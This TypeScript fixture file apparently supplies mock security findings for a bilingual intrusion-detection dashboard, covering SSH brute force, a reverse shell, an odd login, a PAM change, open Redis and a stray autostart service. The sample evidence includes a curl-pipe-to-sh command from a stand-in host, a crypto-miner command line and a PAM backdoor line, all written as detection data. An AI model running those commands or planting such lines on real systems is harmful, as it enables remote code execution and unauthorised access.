// What was found on the made-up fleet: one rule of each sort, with the evidence that sort has.
import type {
  Evidence,
  FindingAnswer,
  FindingItem,
  HandleAction,
  Rule,
  Severity,
  Text,
} from "../contract";
import { agentResponse } from "./world-agents";
import { ago, at, both, id } from "./world-base";
import { host } from "./world-fleet";

interface Sort {
  category: string;
  rule: string;
  severity: Severity;
  subject: string;
  technique: string | null;
  title: Text;
  sentence: Text;
  why: Text;
  advice: Text;
  evidence: Evidence[];
}

const NO_HASH = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08";

const SSHD_LINES: Evidence = {
  type: "log_lines",
  source: "/var/log/auth.log",
  omitted: 36,
  lines: Array.from({ length: 5 }, (_, line) => ({
    at: ago(60 - line),
    text: `Nov 23 03:12:${40 + line} web-00000 sshd[231${line}]: Failed password for root from 203.0.113.7 port 5142${line} ssh2`,
  })),
};

const TREE: Evidence = {
  type: "processes",
  chain: [
    {
      pid: 41_877,
      started_at: ago(130),
      user: "root",
      executable: "/dev/shm/.x/kworker",
      command: "kworker -o stratum+tcp://pool.example.net:3333 -u 4Ab…  --cpu 75",
      sha256: NO_HASH,
      is_subject: true,
    },
    {
      pid: 41_860,
      started_at: ago(140),
      user: "www-data",
      executable: "/usr/bin/bash",
      command: "bash -c 'curl -fsS http://203.0.113.7/k | sh'",
      package: "bash",
      verified: true,
    },
    {
      pid: 912,
      started_at: ago(86_400 * 9),
      user: "www-data",
      executable: "/usr/sbin/php-fpm8.2",
      command: "php-fpm: pool www",
      package: "php8.2-fpm",
      verified: false,
    },
    {
      pid: 900,
      started_at: ago(86_400 * 9),
      user: "root",
      executable: "/usr/sbin/php-fpm8.2",
      command: "php-fpm: master process (/etc/php/8.2/fpm/php-fpm.conf)",
      package: "php8.2-fpm",
    },
    {
      pid: 1,
      started_at: ago(86_400 * 9),
      user: "root",
      executable: "/usr/lib/systemd/systemd",
      command: "/sbin/init",
      package: "systemd",
      verified: true,
    },
  ],
};

const SORTS: Sort[] = [
  {
    category: "brute_force",
    rule: "GAR-LOG-001",
    severity: "high",
    subject: "203.0.113.7",
    technique: "T1110.001",
    title: both("Brute force from one source", "同一来源的暴力破解"),
    sentence: both(
      "203.0.113.7 failed to log in 41 times within 30 seconds by sshd",
      "203.0.113.7 在 30 秒内通过 sshd 登录失败 41 次",
    ),
    why: both(
      "One address tried many passwords in a short time. If it guesses one, it owns the account; most break-ins of servers on the Internet begin like this.",
      "同一地址在短时间内尝试了大量密码。一旦猜中，账号就会失守；互联网上多数服务器入侵都由此开始。",
    ),
    advice: both(
      "Look whether the address logged in afterwards. Block it at the firewall, allow keys only (PasswordAuthentication no), and keep sshd off the open Internet.",
      "检查该地址之后是否登录成功。在防火墙封禁该地址，仅允许密钥登录（PasswordAuthentication no），不要将 sshd 暴露在公网。",
    ),
    evidence: [
      { type: "fact", name: "burst_failures", value: 41 },
      { type: "fact", name: "window_s", value: 30 },
      {
        type: "login",
        service: "sshd",
        user: "root",
        address: "203.0.113.7",
        country: "BR",
        method: "password",
      },
      SSHD_LINES,
    ],
  },
  {
    category: "reverse_shell",
    rule: "GAR-RSH-001",
    severity: "critical",
    subject: "/usr/bin/bash|203.0.113.7",
    technique: "T1059.004",
    title: both("Shell on a network connection", "Shell 连接到网络"),
    sentence: both(
      "bash of www-data on web-00001 takes its commands from 203.0.113.7:4444",
      "web-00001 上 www-data 的 bash 正从 203.0.113.7:4444 接收命令",
    ),
    why: both(
      "A shell whose input and output are a network connection is a person or program elsewhere typing on this server. Nothing of a web server's work needs that.",
      "输入和输出都是网络连接的 shell，意味着远端有人或程序正在操作这台服务器。Web 服务的正常工作不需要这样做。",
    ),
    advice: both(
      "Isolate and kill it. Then look at what the web server was asked just before, and change every secret this account could read.",
      "隔离并终止该进程，检查 Web 服务器此前收到的请求，并更换该账号可读取的所有密钥。",
    ),
    evidence: [
      TREE,
      {
        type: "connection",
        protocol: "tcp",
        local: "10.0.0.1:51422",
        remote: "203.0.113.7:4444",
        initiated: true,
      },
      {
        type: "file",
        path: "/dev/shm/.x/kworker",
        sha256: NO_HASH,
      },
      {
        type: "match",
        field: "StdioSameSocket",
        value: true,
        pattern: "true",
      },
      { type: "match", field: "ImageVerdict", value: "malicious", pattern: "malicious" },
      {
        type: "match",
        field: "AncestorImages",
        value: ["/usr/sbin/php-fpm8.2", "/usr/lib/systemd/systemd"],
        pattern: "endswith php-fpm8.2",
      },
    ],
  },
  {
    category: "abnormal_login",
    rule: "GAR-LOG-006",
    severity: "medium",
    subject: "deploy|198.51.100.23",
    technique: "T1078",
    title: both("Log-in from a new place", "异地登录"),
    sentence: both(
      "deploy logged in from Brazil, where this account was never seen before, at an unusual time of the day and with a key that this server has not met",
      "deploy 从巴西登录：该账号从未在此地登录过，时间异常，且使用了本服务器未见过的密钥",
    ),
    why: both(
      "A stolen key looks like its owner, but not from the same place.",
      "被盗的密钥看起来与其主人无异，但登录地点不同。",
    ),
    advice: both("Ask the owner of the account.", "向账号所有者确认。"),
    evidence: [
      {
        type: "login",
        service: "sshd",
        user: "deploy",
        address: "198.51.100.23",
        country: "BR",
        method: "publickey",
        key_fingerprint: "SHA256:k1cuyDmk0n6cJpQzSgWlZ0XoMHP1Yk0V9x2z5m7Qq3A",
      },
    ],
  },
  {
    category: "critical_file_change",
    rule: "GAR-FIL-001",
    severity: "high",
    subject: "/etc/pam.d/common-auth",
    technique: "T1556.003",
    title: both("Critical file changed", "关键文件变更"),
    sentence: both(
      "root changed /etc/pam.d/common-auth by hand from an ssh session of deploy",
      "root 通过 deploy 的 ssh 会话手工修改了 /etc/pam.d/common-auth",
    ),
    why: both(
      "This file decides who may sign in. One line in it lets everybody in with a known password.",
      "该文件决定谁可以登录。只需一行改动，就能让任何人用约定的密码登录。",
    ),
    advice: both(
      "Compare it with the package (dpkg --verify libpam-runtime) and ask who changed it.",
      "与软件包内容比较（dpkg --verify libpam-runtime），并询问是谁修改的。",
    ),
    evidence: [
      {
        type: "change",
        path: "/etc/pam.d/common-auth",
        removed: ["auth\t[success=1 default=ignore]\tpam_unix.so nullok"],
        added: [
          "auth\tsufficient\tpam_permit_known.so",
          "auth\t[success=1 default=ignore]\tpam_unix.so nullok",
        ],
        omitted: 3,
      },
    ],
  },
  {
    category: "dangerous_port",
    rule: "GAR-AST-001",
    severity: "high",
    subject: "tcp 0.0.0.0:6379",
    technique: null,
    title: both("Dangerous open port", "危险开放端口"),
    sentence: both(
      "redis-server listens on 0.0.0.0:6379 without authentication",
      "redis-server 在 0.0.0.0:6379 监听且没有认证",
    ),
    why: both(
      "Whoever reaches this port reads and writes the data, and often runs programs.",
      "能访问该端口的人即可读写数据，往往还能执行程序。",
    ),
    advice: both("Bind it to loopback or set a password.", "绑定到回环地址或设置密码。"),
    evidence: [
      {
        type: "asset",
        kind: "port",
        key: "tcp|0.0.0.0|6379",
        row: { port: 6379, protocol: "tcp", address: "0.0.0.0", level: "dangerous" },
      },
    ],
  },
  {
    category: "unpackaged_autostart",
    rule: "GAR-AST-006",
    severity: "low",
    subject: "/etc/systemd/system/updater.service",
    technique: null,
    title: both("Auto-start from no package", "非软件包自启动项"),
    sentence: both(
      "/etc/systemd/system/updater.service starts a program that belongs to no package",
      "/etc/systemd/system/updater.service 启动了不属于任何软件包的程序",
    ),
    why: both(
      "What starts by itself and came with no package was put there by somebody.",
      "不来自任何软件包的自启动程序，一定是有人放置的。",
    ),
    advice: both("Find out who needs it.", "确认其用途与所有者。"),
    evidence: [{ type: "file", path: "/etc/systemd/system/updater.service", line: 7 }],
  },
];

const kindOf = (sort: Sort) =>
  sort.rule.startsWith("GAR-AST") ? ("asset_risk" as const) : ("alarm" as const);

function actionsOf(sort: Sort): HandleAction[] {
  const own: Record<string, HandleAction[]> = {
    brute_force: ["block_ip", "login_whitelist"],
    abnormal_login: ["block_ip", "login_whitelist"],
    reverse_shell: ["isolate_and_kill", "block_ip"],
  };
  const all: HandleAction[] = ["mark_handled", "ignore", ...(own[sort.category] ?? [])];
  return kindOf(sort) === "alarm" ? [...all, "alarm_whitelist"] : all;
}

export function finding(index: number): FindingItem {
  const sort = at(SORTS, index);
  const where = host(index % 40);
  const done = index % 7 === 5;
  return {
    id: id("finding", 1_000_000 - index),
    host: { id: where.id, name: where.name },
    kind: kindOf(sort),
    rule: sort.rule,
    category: sort.category,
    severity: sort.severity,
    subject: sort.subject,
    sentence: sort.sentence,
    status: done ? "handled" : "unhandled",
    count: 41 + index,
    first_at: ago(index * 400 + 300),
    last_at: ago(index * 400 + 20),
    handling: done
      ? { action: "mark_handled", by: "alice", at: ago(100), remark: "blocked at the firewall" }
      : null,
    technique: sort.technique,
    incident: sort.category === "reverse_shell" ? "incident-41860" : "",
    confidence: sort.category === "reverse_shell" ? 95 : 0,
  };
}

export function findingAnswer(index: number): FindingAnswer {
  const sort = at(SORTS, index);
  return {
    finding: finding(index),
    rule_title: sort.title,
    why: sort.why,
    advice: sort.advice,
    actions: actionsOf(sort),
    params: { source: "203.0.113.7", failures: 41, window_s: 30 },
    evidence: sort.evidence,
    history: [{ at: ago(90), by: "alice", action: "undo", remark: "", why: null }],
    related: sort.category === "reverse_shell" ? [finding(index + 2), finding(index + 3)] : [],
    responses: sort.category === "reverse_shell" ? [agentResponse(0), agentResponse(1)] : [],
    similar: [finding(index + SORTS.length), finding(index + 2 * SORTS.length)],
  };
}

export const RULES: Rule[] = SORTS.map((sort) => ({
  id: sort.rule,
  title: sort.title,
  category: sort.category,
  kind: kindOf(sort),
  severity: sort.severity,
  why: sort.why,
  advice: sort.advice,
  techniques: sort.technique ? [sort.technique] : [],
  false_alarms: [],
  blind_spots: [],
  actions: actionsOf(sort),
}));

export const TOO_WIDE = both(
  "it would have silenced 812 of 1241 alarms of the last 30 days",
  "最近 30 天的 1241 条告警中有 812 条会被屏蔽",
);

const EFFECTS: Partial<Record<HandleAction, Text[]>> = {
  isolate_and_kill: [
    both(
      "ends kworker (41877) and 2 processes it started",
      "终止 kworker（41877）及其启动的 2 个进程",
    ),
    both(
      "moves /dev/shm/.x/kworker into the vault, from where it can be restored",
      "将 /dev/shm/.x/kworker 移入隔离区，可从隔离区恢复",
    ),
    both("keeps this content from running again", "阻止相同内容再次运行"),
  ],
  block_ip: [
    both("refuses packets from 203.0.113.7 for 12 hours", "12 小时内拒绝来自 203.0.113.7 的数据包"),
  ],
  ignore: [
    both(
      "the next of its kind is shown again; undo any time",
      "同类事件再次发生时仍会显示；可随时撤销",
    ),
  ],
};

/** What would happen, by the action that was asked about. */
export function planOf(asked: unknown) {
  const action = (asked as { action: HandleAction }).action;
  return {
    warnings: action === "alarm_whitelist" ? [TOO_WIDE] : [],
    summary: both("closes 1 event on web-00000", "关闭 web-00000 上的 1 个事件"),
    effects: EFFECTS[action] ?? [],
  };
}
